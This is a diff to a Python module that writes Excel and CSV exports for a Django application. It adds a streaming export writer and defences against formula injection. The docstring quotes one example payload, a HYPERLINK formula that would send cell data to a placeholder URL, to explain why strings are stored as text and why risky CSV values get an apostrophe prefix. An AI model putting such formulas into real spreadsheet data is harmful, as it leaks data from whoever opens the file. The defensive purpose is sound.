@@ -1,20 +1,36 @@
-"""Excel workbooks people file or forward: a caption row, a bold header row, then data rows.
+"""Excel workbooks people file or forward: the one place the application writes spreadsheet cells.
 
-Written with openpyxl's write-only mode, so a sheet of 100,000 rows streams instead of building a
-cell object per value; text columns (staff and ID numbers) are stored as text so Excel and WPS keep
-their leading zeros.
+``write_xlsx`` is the writer every export uses (``chuangxian.exports``): a caption row with the title
+and the time of export, a bold header row frozen under it with an autofilter, columns fitted to their
+content (a Chinese character counts double), staff and ID numbers as text, dates as dates,
+percentages as numbers with a % format, and the print setup an office expects (A4, landscape when
+wide, one page wide, the header row on every page, page numbers in the footer). It uses openpyxl's
+write-only mode, so 1,000,000 rows stream through bounded memory: only the first ``SAMPLE_ROWS``
+rows are held, to fit the widths.
 
-Every string is written as a string cell (``text_cell``), never as a formula: openpyxl turns any str
-that starts with "=" into a formula, so a pledge ``=HYPERLINK("http://…?leak="&B3,"点击查看")`` or a
-name ``=1+2`` would run when the file is opened in Excel, WPS or LibreOffice. A string cell shows the
-text exactly as typed; Excel never evaluates it, whatever it starts with (=, +, -, @, tab, CR).
-Every workbook the application writes goes through ``workbook_bytes`` or ``text_cell``.
+Formula injection: every string is written as a string cell, never as a formula. openpyxl turns any
+str that starts with "=" into a formula (and "#N/A" into an error), so a pledge
+``=HYPERLINK("http://…?leak="&B3,"点击查看")`` or a name ``=1+2`` would run when the file is opened
+in Excel, WPS or LibreOffice. A string cell shows the text exactly as typed; Excel never evaluates
+it, whatever it starts with (=, +, -, @, tab, CR). ``write_csv`` has no cell types, so there a text
+that starts with one of those characters gets a leading apostrophe (the OWASP rule for CSV).
+Every workbook the application writes goes through ``write_xlsx``, ``workbook_bytes`` or
+``text_cell``.
 """
 
+import csv
 import io
-from collections.abc import Iterable, Sequence
+import unicodedata
+from collections.abc import Callable, Iterable, Iterator, Sequence
 from dataclasses import dataclass, field
-from typing import TYPE_CHECKING, Any
+from datetime import date, datetime
+from decimal import Decimal
+from enum import StrEnum
+from itertools import islice
+from typing import IO, TYPE_CHECKING, Any
+
+from django.utils import timezone
+from django.utils.functional import Promise
 
 if TYPE_CHECKING:
     from openpyxl.cell import Cell
@@ -79,3 +95,266 @@ def workbook_bytes(sheets: Sequence[Sheet]) -> bytes:
     buffer = io.BytesIO()
     workbook.save(buffer)
     return buffer.getvalue()
+
+
+# --- The export writer -------------------------------------------------------------------------
+
+
+class Kind(StrEnum):
+    """What a column holds, so the cell gets the right type and format."""
+
+    TEXT = "text"
+    ID = "id"  # staff numbers, ID-card numbers, phone numbers: text, leading zeros kept
+    DATE = "date"
+    DATETIME = "datetime"
+    NUMBER = "number"
+    PERCENT = "percent"  # given as a percentage (85.5), written as the number 0.855 with a % format
+
+
+@dataclass(frozen=True)
+class Column:
+    header: "str | Promise"  # a lazy translation is fine: written as str
+    kind: Kind = Kind.TEXT
+    width: int = 40  # the widest the column is fitted to, in characters (a CJK character is 2)
+    wrap: bool = False  # long text (a pledge, a comment): wrap it and align the row to the top
+
+
+@dataclass
+class Table:
+    """One sheet: its Chinese name, its columns, its rows (any iterable: a generator streams)."""
+
+    title: "str | Promise"
+    columns: Sequence[Column]
+    rows: Iterable[Sequence[Any]]
+    caption: str = ""
+
+
+SAMPLE_ROWS = 100  # rows held back to fit the column widths before the sheet streams
+PROGRESS_EVERY = 1000
+LANDSCAPE_WIDTH = 95  # total width (characters) above which the sheet prints landscape
+NUMBER_FORMATS = {
+    Kind.ID: "@",
+    Kind.DATE: "yyyy-mm-dd",
+    Kind.DATETIME: "yyyy-mm-dd hh:mm",
+    Kind.PERCENT: "0.0%",
+}
+# Values openpyxl would not store as plain strings: formulas and error codes.
+_ERROR_CODES = frozenset({"#NULL!", "#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#NUM!", "#N/A"})
+CSV_DANGER = ("=", "+", "-", "@", "\t", "\r")
+
+
+def display_width(value: Any) -> int:
+    """Characters a value takes in a cell: East Asian wide and full-width characters count double."""
+    text = value if isinstance(value, str) else format_plain(value)
+    return sum(2 if unicodedata.east_asian_width(ch) in "WF" else 1 for ch in text)
+
+
+def format_plain(value: Any) -> str:
+    """A value as text (CSV, width fitting): dates ISO, None empty."""
+    if value is None:
+        return ""
+    if isinstance(value, datetime):
+        return (
+            timezone.localtime(value).strftime("%Y-%m-%d %H:%M")
+            if timezone.is_aware(value)
+            else (value.strftime("%Y-%m-%d %H:%M"))
+        )
+    if isinstance(value, date):
+        return value.isoformat()
+    return str(value)
+
+
+def _convert(kind: Kind, value: Any) -> Any:
+    """The value a cell of ``kind`` stores."""
+    if value is None or value == "":
+        return None
+    if kind is Kind.ID:
+        return str(value)
+    if kind is Kind.PERCENT and isinstance(value, int | float | Decimal):
+        return float(value) / 100
+    if kind is Kind.NUMBER and isinstance(value, Decimal):
+        return float(value)
+    if isinstance(value, datetime):
+        # Excel has no time zones: the local wall time, as people read it on the page.
+        return timezone.localtime(value).replace(tzinfo=None) if timezone.is_aware(value) else value
+    if kind is Kind.DATETIME and isinstance(value, date):
+        return datetime(value.year, value.month, value.day)
+    return value
+
+
+def write_xlsx(
+    target: IO[bytes] | str,
+    tables: Sequence[Table],
+    *,
+    exported_at: datetime,
+    progress: Callable[[int], None] | None = None,
+) -> int:
+    """Write ``tables`` as an .xlsx workbook to ``target`` (a path or a binary file); returns the
+    number of data rows. ``progress(rows_done)`` is called every ``PROGRESS_EVERY`` rows."""
+    from openpyxl import Workbook
+    from openpyxl.cell import WriteOnlyCell
+    from openpyxl.styles import Alignment, Font
+    from openpyxl.utils import get_column_letter
+
+    workbook = Workbook(write_only=True)
+    caption_font = Font(bold=True, size=13)
+    bold = Font(bold=True)
+    wrapped = Alignment(wrap_text=True, vertical="top")
+    stamp = format_plain(exported_at)
+    done = 0
+    for table in tables:
+        sheet = workbook.create_sheet(title=_sheet_title(str(table.title)))
+        columns = list(table.columns)
+        letters = [get_column_letter(i) for i in range(1, len(columns) + 1)]
+        rows = iter(table.rows)
+        sample = [list(r) for r in islice(rows, SAMPLE_ROWS)]
+        widths = _fit_widths(columns, sample)
+        for letter, width in zip(letters, widths, strict=True):
+            sheet.column_dimensions[letter].width = width
+
+        _print_setup(sheet, last_letter=letters[-1] if letters else "A", total_width=sum(widths))
+
+        caption = f"{table.caption or table.title}（导出时间：{stamp}）"
+        cell = text_cell(WriteOnlyCell(sheet, value=caption))
+        cell.font = caption_font
+        sheet.append([cell])
+        header = []
+        for column in columns:
+            cell = text_cell(WriteOnlyCell(sheet, value=str(column.header)))
+            cell.font = bold
+            header.append(cell)
+        sheet.append(header)
+
+        # One prototype cell per column that needs a style; data cells copy its style array.
+        protos: list[Any] = []
+        for column in columns:
+            proto = None
+            if column.kind in NUMBER_FORMATS or column.wrap:
+                proto = WriteOnlyCell(sheet)
+                if column.kind in NUMBER_FORMATS:
+                    proto.number_format = NUMBER_FORMATS[column.kind]
+                if column.wrap:
+                    proto.alignment = wrapped
+            protos.append(proto)
+        kinds = [c.kind for c in columns]
+        plain = all(p is None for p in protos) and all(k is Kind.TEXT or k is Kind.NUMBER for k in kinds)
+        count = 0
+        for row in _chain(sample, rows):
+            sheet.append(_row_cells(sheet, row, kinds, protos, plain, WriteOnlyCell))
+            count += 1
+            done += 1
+            if progress is not None and done % PROGRESS_EVERY == 0:
+                progress(done)
+        if letters:
+            sheet.auto_filter.ref = f"A2:{letters[-1]}{count + 2}"
+    if not tables:
+        workbook.create_sheet(title="Sheet1")
+    workbook.save(target)
+    if progress is not None:
+        progress(done)
+    return done
+
+
+def _row_cells(
+    sheet: Any, row: Sequence[Any], kinds: list[Kind], protos: list[Any], plain: bool, make: Any
+) -> list[Any]:
+    out: list[Any] = []
+    for index, raw in enumerate(row):
+        kind = kinds[index] if index < len(kinds) else Kind.TEXT
+        value = raw if plain else _convert(kind, raw)
+        if isinstance(value, Decimal):
+            value = float(value)
+        proto = protos[index] if index < len(protos) else None
+        if proto is not None and value is not None:
+            cell = make(sheet, value=value)
+            cell._style = proto._style  # shared on purpose: the writer only reads it
+            if isinstance(value, str):
+                cell.data_type = "s"
+            out.append(cell)
+        elif isinstance(value, str) and (value[:1] == "=" or value in _ERROR_CODES):
+            cell = make(sheet, value=value)
+            cell.data_type = "s"  # text, never a formula or an error code
+            out.append(cell)
+        else:
+            out.append(value)
+    return out
+
+
+def _chain(first: list[list[Any]], rest: Iterator[Sequence[Any]]) -> Iterator[Sequence[Any]]:
+    yield from first
+    yield from rest
+
+
+def _sheet_title(title: str) -> str:
+    """Excel's rules for a sheet name: at most 31 characters, none of \\ / ? * [ ] :."""
+    for ch in "\\/?*[]:":
+        title = title.replace(ch, "－")
+    return title[:31] or "Sheet1"
+
+
+def _fit_widths(columns: Sequence[Column], sample: list[list[Any]]) -> list[float]:
+    widths = []
+    for index, column in enumerate(columns):
+        widest = display_width(str(column.header))
+        for row in sample:
+            if index < len(row):
+                value = _convert(column.kind, row[index])
+                if column.kind is Kind.PERCENT and isinstance(value, float):
+                    shown: Any = f"{value:.1%}"
+                elif column.kind is Kind.DATE:
+                    shown = "2000-01-01"
+                elif column.kind is Kind.DATETIME:
+                    shown = "2000-01-01 00:00"
+                else:
+                    shown = value
+                widest = max(widest, display_width(shown))
+        widths.append(float(min(max(widest + 2, 6), max(column.width, 6))))
+    return widths
+
+
+def _print_setup(sheet: Any, *, last_letter: str, total_width: float) -> None:
+    sheet.freeze_panes = "A3"
+    sheet.print_title_rows = "2:2"
+    setup = sheet.page_setup
+    setup.paperSize = 9  # A4
+    setup.orientation = "landscape" if total_width > LANDSCAPE_WIDTH else "portrait"
+    setup.fitToWidth = 1
+    setup.fitToHeight = 0
+    sheet.sheet_properties.pageSetUpPr.fitToPage = True
+    sheet.print_options.horizontalCentered = True
+    sheet.oddFooter.center.text = "第 &P 页，共 &N 页"
+    sheet.evenFooter.center.text = "第 &P 页，共 &N 页"
+
+
+def write_csv(
+    target: IO[bytes],
+    table: Table,
+    *,
+    progress: Callable[[int], None] | None = None,
+) -> int:
+    """One table as CSV, UTF-8 with a byte-order mark (so Excel and WPS read the Chinese), header
+    first; text that a spreadsheet would evaluate gets a leading apostrophe."""
+    text = io.TextIOWrapper(target, encoding="utf-8-sig", newline="", write_through=True)
+    writer = csv.writer(text)
+    writer.writerow([str(column.header) for column in table.columns])
+    kinds = [c.kind for c in table.columns]
+    done = 0
+    for row in table.rows:
+        writer.writerow([_csv_value(kinds[i] if i < len(kinds) else Kind.TEXT, v) for i, v in enumerate(row)])
+        done += 1
+        if progress is not None and done % PROGRESS_EVERY == 0:
+            progress(done)
+    text.flush()
+    text.detach()
+    if progress is not None:
+        progress(done)
+    return done
+
+
+def _csv_value(kind: Kind, value: Any) -> str:
+    if kind is Kind.PERCENT and isinstance(value, int | float | Decimal):
+        return f"{float(value):.1f}%"
+    text = format_plain(value)
+    if text.startswith(CSV_DANGER):
+        return "'" + text
+    return text
